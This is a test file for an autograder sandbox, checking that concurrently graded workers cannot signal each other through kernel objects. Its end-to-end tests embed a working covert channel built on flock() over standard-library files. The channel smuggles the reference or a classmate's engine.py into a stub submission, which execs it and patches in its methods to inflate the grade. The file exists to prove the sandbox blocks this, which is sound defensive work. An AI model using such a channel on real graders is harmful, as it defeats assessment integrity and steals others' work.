"""No channel between workers that run at the same time (issue 19; docs/security.md, "Between workers").

Two real workers, alive together as a submission's own and reference-engine workers are (or two
students' under `--jobs 2`): the sender marks a kernel object both can reach, the receiver looks for
it. Unit level (tests/channel_probes.py runs in the workers, where a submission's code runs), then
the issue's attack end to end: a lock channel that carries the reference engine.py from the
reference-engine worker to the student's own worker, and from one student to a classmate.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from adversarial.corpus import Case, build, engine
from checkout import PROBES as MICROGRAD_PROBES
from checkout import REPO_ROOT

from autograder.boundary.sandbox import Limits, Worker
from autograder.core import isolation

SANDBOXES = ["bwrap", "process"] if shutil.which("bwrap") else ["process"]
PROBES = Path(__file__).resolve().parent / "channel_probes.py"
LIMITS = Limits(time_limit=5.0, memory_mb=512, forbidden_imports=("torch",))
# Kernel objects on files every sandbox shares (the standard library), then objects that only a
# shared namespace or file system would carry (closed by bwrap's namespaces, and by seccomp and Landlock
# in the process sandbox).
ON_SHARED_FILES = ["flock", "posix", "ofd", "posix-high-bits", "inotify", "dnotify"]
IN_SHARED_NAMESPACES = ["abstract-socket", "sysv-shm", "tmp-file", "proc-comm", "signal"]
TAG = f"{os.getpid()}"
PRODUCT = {"leaves": [2.0, 3.0], "ops": [["mul", 0, 1]]}


def empty_submission(folder: Path) -> Path:
    (folder / "micrograd").mkdir(parents=True)
    (folder / "micrograd" / "__init__.py").write_text("")
    return folder


@pytest.fixture
def tmp_path() -> Path:
    """A folder the process sandbox's unprivileged uid can cross (pytest's own are 0700 as root)."""
    folder = Path(tempfile.mkdtemp(prefix="channels-test-"))
    os.chmod(folder, 0o711)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(params=SANDBOXES)
def pair(request: pytest.FixtureRequest, tmp_path: Path):
    """A sender and a receiver worker, both running."""
    workers = [Worker(empty_submission(tmp_path / name), LIMITS, sandbox=request.param, probes=[PROBES])
               for name in ("sender", "receiver")]
    try:
        yield workers
    finally:
        for worker in workers:
            worker.close()


@pytest.mark.parametrize("mechanism", ON_SHARED_FILES + IN_SHARED_NAMESPACES)
def test_nothing_one_worker_does_reaches_another(pair: list[Worker], mechanism: str):
    sender, receiver = pair
    index = os.getpid() % 97  # which shared file: concurrent runs on one machine use different ones
    prepared = receiver.call("prepare", mechanism=mechanism, index=index, tag=TAG)
    tag = str(prepared.value["seen"]) if mechanism == "signal" else TAG  # the receiver's pid
    held = sender.call("hold", mechanism=mechanism, index=index, tag=tag)
    seen = receiver.call("observe", mechanism=mechanism, index=index, tag=tag)
    assert prepared.ok and held.ok and seen.ok, (prepared, held, seen)
    assert seen.value["seen"] is False, (mechanism, prepared.value, held.value, seen.value)


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_the_filter_is_loaded_before_the_workers_code(tmp_path: Path, sandbox: str):
    with Worker(empty_submission(tmp_path / "s"), LIMITS, sandbox=sandbox, probes=[PROBES]) as worker:
        reply = worker.call("flock_errno")
    assert reply.ok and reply.value == "EPERM", reply


# -- end to end: the attack, a lock channel carrying engine.py -------------------------------

# Both ends share one transport over flock() on standard-library files: 64 data files, a clock file
# (the frame number's parity) and a claim file (one sender at a time). A frame is a 2-byte index and
# 6 bytes of payload; frame 0's payload starts with the length. The sender repeats the message as long
# as its worker lives; a receiver collects frames by index until it has them all.
_TRANSPORT = """
import fcntl as _fcntl, os as _os, threading as _threading, time as _time, zlib as _zlib
_DIR = _os.path.dirname(_os.__file__)
_FILES = [_os.path.join(_DIR, n) for n in sorted(n for n in _os.listdir(_DIR) if n.endswith(".py"))]
_FILES = _FILES[{OFFSET}:{OFFSET} + 66]

def _locked(path):
    fd = _os.open(path, _os.O_RDONLY)
    try:
        _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)  # shared: receivers never see each other
        return False
    except BlockingIOError:
        return True
    finally:
        _os.close(fd)

def _serve(message):
    fds = [_os.open(p, _os.O_RDONLY) for p in _FILES]
    data = _zlib.compress(message.encode())
    data = len(data).to_bytes(4, "big") + data
    frames = [i.to_bytes(2, "big") + data[6 * i:6 * i + 6].ljust(6, b"\\0") for i in range((len(data) + 5) // 6)]
    try:
        _fcntl.flock(fds[65], _fcntl.LOCK_EX | _fcntl.LOCK_NB)  # the claim: one sender
    except OSError as exc:
        print("sender:", type(exc).__name__, exc)
        return
    n = 0
    while True:
        for frame in frames:
            bits = int.from_bytes(frame, "big")
            for b in range(64):
                _fcntl.flock(fds[b], _fcntl.LOCK_EX if bits >> b & 1 else _fcntl.LOCK_UN)
            n += 1
            _fcntl.flock(fds[64], _fcntl.LOCK_EX if n % 2 else _fcntl.LOCK_UN)
            _time.sleep(0.002)

def _receive(seconds):
    frames, total, deadline = {}, None, _time.monotonic() + seconds
    try:
        clock = _locked(_FILES[64])  # a frame is read once the clock changes
    except OSError as exc:
        print("receiver:", type(exc).__name__, exc)
        return None
    while _time.monotonic() < deadline:
        tick = _locked(_FILES[64])
        if tick == clock:
            _time.sleep(0.001)
            continue
        bits = sum(1 << b for b in range(64) if _locked(_FILES[b]))
        if _locked(_FILES[64]) != tick:
            continue  # the frame changed while it was read
        clock = tick
        frame = bits.to_bytes(8, "big")
        frames[int.from_bytes(frame[:2], "big")] = frame[2:]
        if 0 in frames and total is None:
            total = (int.from_bytes(frames[0][:4], "big") + 4 + 5) // 6
        if total is not None and len(frames) >= total and all(i in frames for i in range(total)):
            data = b"".join(frames[i] for i in range(total))
            try:
                return _zlib.decompress(data[4:4 + int.from_bytes(data[:4], "big")]).decode()
            except (_zlib.error, UnicodeDecodeError):
                frames, total = {}, None
    return None
"""

# The sender in nn.py serves the engine it runs on when that engine is the reference (in the
# reference-engine worker); a classmate's engine.py serves itself (complete, their own).
_SENDER = """
from micrograd import engine as _engine
_source = open(_engine.__file__).read()
if "NotImplementedError" not in _source and "course-channel" not in _source:
    _threading.Thread(target=_serve, args=(_source,), daemon=True).start()
    print("sender: serving", len(_source), "characters")
"""
_SENDER_OF_ITSELF = """
_own_source = open(__file__).read().split("\\nimport fcntl as _fcntl")[0]
_threading.Thread(target=_serve, args=(_own_source,), daemon=True).start()
_time.sleep(2.0)  # at import (within a test's 3 s): the classmate's grading has time to start
"""

# The receiver: the student's stub engine.py takes the reference's methods as soon as they arrive (a
# background thread listens while the worker lives); the first Value of each test waits for them.
_RECEIVER = """
import types as _types
def _adopt():
    try:
        source = _receive(30.0)
    except Exception as exc:
        print("receiver failed:", repr(exc))
        return
    print("receiver: got", 0 if source is None else len(source), "characters")
    if source:
        namespace = {}
        exec(compile(source, "received", "exec"), namespace)
        scope = dict(namespace, Value=Value)
        for key, value in vars(namespace["Value"]).items():
            if isinstance(value, _types.FunctionType):
                method = _types.FunctionType(value.__code__, scope, key, value.__defaults__, value.__closure__)
                if key == "__init__":
                    _adopted.append(method)  # the grader's probes may have wrapped __init__: keep their wrapper
                else:
                    setattr(Value, key, method)
_adopted = []
_adopter = _threading.Thread(target=_adopt, daemon=True)
_adopter.start()
_stub_init = Value.__init__
def _waiting_init(self, *args, **kwargs):
    _adopter.join(2.0)
    (_adopted[0] if _adopted else _stub_init)(self, *args, **kwargs)
Value.__init__ = _waiting_init
# course-channel
"""

NN = "micrograd/nn.py"


def transport(offset: int) -> str:
    return _TRANSPORT.replace("{OFFSET}", str(offset))


def _grade(sources: list[Path], out: Path, sandbox: str, jobs: int = 1) -> dict[str, dict]:
    command = [sys.executable, "-m", "autograder", "grade", *map(str, sources), "--out", str(out),
               "--sandbox", sandbox, "--jobs", str(jobs)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=out.parent, timeout=600,
                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
    assert done.returncode == 0, done.stderr[-3000:]
    return {p.stem: json.loads(p.read_text()) for p in out.glob("*.json")}


def _printed(result: dict) -> str:
    return json.dumps(result)


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_the_reference_engine_worker_cannot_feed_the_own_worker(tmp_path: Path, sandbox: str):
    """The two workers as Workers (autograder/core/pytest_plugin.py) makes them, driven call by call."""
    offset = os.getpid() % 90  # of the ~170 files: concurrent runs on one machine use different ones
    cheat = Case("template", (engine(transport(offset) + _RECEIVER), (NN, "", transport(offset) + _SENDER)))
    own = build("cheat", cheat, tmp_path / "in", out=tmp_path)
    modes = isolation.load_modes(REPO_ROOT / "grading_tests" / "micrograd")
    reference = isolation.stage(own, "reference_engine", modes["reference_engine"])
    with Worker(own, LIMITS, sandbox=sandbox, probes=MICROGRAD_PROBES) as receiver, \
            Worker(reference, LIMITS, sandbox=sandbox, probes=MICROGRAD_PROBES) as sender:
        served = sender.call("model", cls="MLP", args=[2, [1]])  # imports nn.py: the sender starts
        first = receiver.call("graph", graph=PRODUCT)  # waits up to 2 s for the reference's methods
        again = receiver.call("graph", graph=PRODUCT)
    assert served.status == "error" and served.error.type == "NotImplementedError", served
    output = receiver.stdout_excerpt.decode()
    assert "receiver: PermissionError" in output, output
    assert first.status == again.status == "error" and again.error.type == "NotImplementedError", (first, again)


@pytest.mark.slow
def test_the_attack_in_one_submission_gains_nothing(tmp_path: Path):
    """End to end (`course grade`), where the attack scored 45 of 100 for a submission that implements nothing."""
    sandbox = SANDBOXES[0]
    offset = os.getpid() % 90
    cheat = Case("template", (engine(transport(offset) + _RECEIVER), (NN, "", transport(offset) + _SENDER)))
    out = tmp_path / "out"
    sources = [build("cheat", cheat, tmp_path / "in", out=out),
               build("honest", Case("template", ()), tmp_path / "in", out=out)]
    results = _grade(sources, out, sandbox)
    assert "receiver: PermissionError" in _printed(results["cheat"]), _printed(results["cheat"])[:3000]
    assert results["cheat"]["score"] == results["honest"]["score"]


@pytest.mark.slow
def test_a_classmate_graded_at_the_same_time_gains_nothing(tmp_path: Path):
    """`course grade --jobs 2`: a complete submission serves its engine.py, a stub adopts it (65 of 100 on a8e86a8)."""
    offset = os.getpid() % 90  # of the ~170 files: concurrent runs on one machine use different ones
    sender = Case("reference", (engine(transport(offset) + _SENDER_OF_ITSELF),))
    receiver = Case("template", (engine(transport(offset) + _RECEIVER),))
    out = tmp_path / "out"
    root = tmp_path / "in"
    sources = [build("a-sender", sender, root, out=out), build("b-receiver", receiver, root, out=out),
               build("c-honest", Case("template", ()), root, out=out)]
    results = _grade(sources[:2], out, SANDBOXES[0], jobs=2)
    baseline = _grade(sources[2:], tmp_path / "baseline", SANDBOXES[0])
    assert "receiver: PermissionError" in _printed(results["b-receiver"]), _printed(results["b-receiver"])[:3000]
    assert results["b-receiver"]["score"] == baseline["c-honest"]["score"]
